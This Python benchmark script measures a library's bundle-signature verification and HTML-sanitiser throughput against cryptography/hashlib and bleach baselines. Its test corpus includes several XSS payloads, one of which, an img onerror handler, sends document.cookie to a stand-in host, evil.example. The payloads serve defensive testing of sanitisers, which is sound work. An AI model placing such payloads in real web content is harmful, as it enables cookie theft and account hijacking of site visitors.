"""Integrity and HTML throughput against their limits and peers, in one run.

Workloads:

- bundle verification: ``mitigate.verify_bundle`` (parse the JWS envelope, find the key,
  check signature, key window, version and SHA-256 of the content) against the raw limit
  of the same work done directly with ``cryptography`` and ``hashlib``
  (``limit.sha256_ed25519``: SHA-256 of the content + one Ed25519 verify). Target: at
  least 80 % of the limit. Bundle size: ``--bundle-mib`` (default 4 MiB).
- HTML sanitising of a mixed corpus (articles with links, lists, tables, images and a
  share of XSS payloads): ``mitigate.sanitize`` (the nh3 render path) against
  ``bleach.clean`` with the same allow-list; ``mitigate.sanitize_for_write`` (the write
  path, which also lists what the sanitiser would change) for scale.

Prints a table of MB/s (MB = 10^6 bytes of input) and the ratios; ``--json`` prints
``{"rows": [{"name", "mb_per_s", ...}], "ratios": {...}}``.
Run: uv run python bench/integrity.py [--json] [--repeats R] [--seconds S] [--bundle-mib N]
"""

from __future__ import annotations

import argparse
import contextlib
import hashlib
import json
import os
import statistics
import time
import warnings
from collections.abc import Callable

import bleach
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PublicKey

from mitigate import EnvelopeSigner, KeyRing, VirtualClock, sanitize, sanitize_for_write
from mitigate.guard.html import DEFAULT_HTML_POLICY, HtmlRejectedError
from mitigate.integrity.digests import b64url_decode
from mitigate.integrity.envelope import verify_bundle


def _throughput(fn: Callable[[], object], nbytes: int, seconds: float, repeats: int) -> list[float]:
    """MB/s samples: each sample runs ``fn`` until ``seconds`` have passed."""
    samples = []
    for _ in range(repeats):
        count = 0
        start = time.perf_counter()
        while True:
            fn()
            count += 1
            elapsed = time.perf_counter() - start
            if elapsed >= seconds:
                break
        samples.append(count * nbytes / elapsed / 1e6)
    return samples


def _interleaved(
    fns: dict[str, tuple[Callable[[], object], int]], seconds: float, repeats: int
) -> dict[str, float]:
    # Alternate the variants in every round, so drift (frequency, cache) hits all alike.
    samples: dict[str, list[float]] = {name: [] for name in fns}
    for fn, nbytes in fns.values():
        _throughput(fn, nbytes, 0.05, 1)  # warm up
    for _ in range(repeats):
        for name, (fn, nbytes) in fns.items():
            samples[name] += _throughput(fn, nbytes, seconds, 1)
    return {name: statistics.median(values) for name, values in samples.items()}


def _bundle_bench(size: int, seconds: float, repeats: int) -> dict[str, float]:
    clock = VirtualClock()
    ring = KeyRing.generate(clock=clock)
    content = os.urandom(size)
    envelope = EnvelopeSigner(ring).sign_bundle("bench-bundle", content, version=1)
    keys = ring.keyset()
    now = clock.wall()
    header, payload, signature = envelope.token.split(".")
    signing_input = f"{header}.{payload}".encode()
    # The limit gets a loaded key object too, as the key set keeps one per kid.
    public = Ed25519PublicKey.from_public_bytes(keys.key(envelope.kid).x)
    sig = b64url_decode(signature)

    def ours() -> object:
        return verify_bundle(envelope.token, content, keys, now=now, bundle="bench-bundle")

    def limit() -> object:
        digest = hashlib.sha256(content).digest()
        public.verify(sig, signing_input)
        return digest

    return _interleaved(
        {"mitigate.verify_bundle": (ours, size), "limit.sha256_ed25519": (limit, size)},
        seconds,
        repeats,
    )


_ARTICLE = """<h2>Lesson {i}: resilient systems</h2>
<p>Failures are <strong>normal</strong>; what matters is how a system <em>degrades</em>.
See <a href="https://example.com/guide/{i}">the guide</a> and <a href="/notes/{i}">notes</a>.</p>
<ul><li>Retry with backoff</li><li>Break the circuit</li>
<li>Fall back to the last good copy</li></ul>
<table><tr><th scope="col">Policy</th><th>Budget</th></tr>
<tr><td>retry</td><td>3 &times; 200 ms</td></tr></table>
<p><img src="https://cdn.example.com/img/{i}.png" alt="diagram {i}" width="640" height="360"></p>
<blockquote cite="https://example.com/q">Everything fails, all the time.</blockquote>
<pre><code>if (attempt &lt; 3) {{ retry(); }}</code></pre>
"""
_XSS = [
    '<p onclick="steal()">click</p>',
    "<script>alert(document.cookie)</script>",
    '<img src=x onerror="fetch(`//evil.example/?c=`+document.cookie)">',
    '<a href="javascript:alert(1)">link</a>',
    "<svg onload=alert(1)><circle r=10></circle></svg>",
    '<iframe src="https://evil.example"></iframe>',
    "<style>body{display:none}</style>",
]


def _corpus(documents: int = 200) -> list[str]:
    docs = []
    for i in range(documents):
        body = _ARTICLE.format(i=i) * 3
        if i % 4 == 0:
            body += _XSS[i % len(_XSS)]
        docs.append(body)
    return docs


def _html_bench(seconds: float, repeats: int) -> dict[str, float]:
    docs = _corpus()
    nbytes = sum(len(d.encode()) for d in docs)
    policy = DEFAULT_HTML_POLICY
    tags = set(policy.tags)
    attributes = {tag: sorted(names) for tag, names in policy.attributes.items()}
    cleaner = bleach.sanitizer.Cleaner(
        tags=tags,
        attributes=attributes,
        protocols=set(policy.url_schemes),
        strip=True,
        strip_comments=True,
    )

    def ours() -> None:
        for d in docs:
            sanitize(d)

    def write_path() -> None:
        for d in docs:
            with contextlib.suppress(HtmlRejectedError):
                sanitize_for_write(d)

    def peer() -> None:
        for d in docs:
            cleaner.clean(d)

    return _interleaved(
        {
            "mitigate.sanitize": (ours, nbytes),
            "bleach.clean": (peer, nbytes),
            "mitigate.sanitize_for_write": (write_path, nbytes),
        },
        seconds,
        repeats,
    )


def main() -> None:
    parser = argparse.ArgumentParser(description=(__doc__ or "").split("\n")[0])
    parser.add_argument("--json", action="store_true", help="print one JSON object")
    parser.add_argument("--repeats", type=int, default=5)
    parser.add_argument("--seconds", type=float, default=0.4, help="per sample")
    parser.add_argument("--bundle-mib", type=float, default=4.0)
    args = parser.parse_args()
    warnings.simplefilter("ignore")  # bleach's deprecation notices are not results

    size = int(args.bundle_mib * 1024 * 1024)
    speeds = _bundle_bench(size, args.seconds, args.repeats)
    speeds |= _html_bench(args.seconds, args.repeats)
    workloads = {
        "mitigate.verify_bundle": f"{args.bundle_mib:g} MiB bundle, JWS envelope",
        "limit.sha256_ed25519": f"{args.bundle_mib:g} MiB: hashlib SHA-256 + Ed25519 verify",
        "mitigate.sanitize": "200 HTML documents, nh3 render path",
        "bleach.clean": "same documents, same allow-list",
        "mitigate.sanitize_for_write": "same documents, write path (reports changes)",
    }
    rows = [
        {"name": name, "mb_per_s": round(speeds[name], 1), "workload": workloads[name]}
        for name in workloads
    ]
    ratios = {
        "verify_bundle_vs_limit": round(
            speeds["mitigate.verify_bundle"] / speeds["limit.sha256_ed25519"], 3
        ),
        "sanitize_vs_bleach": round(speeds["mitigate.sanitize"] / speeds["bleach.clean"], 2),
        "sanitize_for_write_vs_bleach": round(
            speeds["mitigate.sanitize_for_write"] / speeds["bleach.clean"], 2
        ),
    }
    if args.json:
        print(json.dumps({"rows": rows, "ratios": ratios}))
        return
    print(f"{'name':30} {'MB/s':>10}  workload")
    for row in rows:
        print(f"{row['name']:30} {row['mb_per_s']:>10.1f}  {row['workload']}")
    print()
    target = "meets" if ratios["verify_bundle_vs_limit"] >= 0.8 else "MISSES"
    print(
        f"verify_bundle / limit: {ratios['verify_bundle_vs_limit']:.1%} ({target} the 80 % target)"
    )
    print(f"sanitize / bleach: {ratios['sanitize_vs_bleach']:.1f}x")
    print(f"sanitize_for_write / bleach: {ratios['sanitize_for_write_vs_bleach']:.1f}x")


if __name__ == "__main__":
    main()
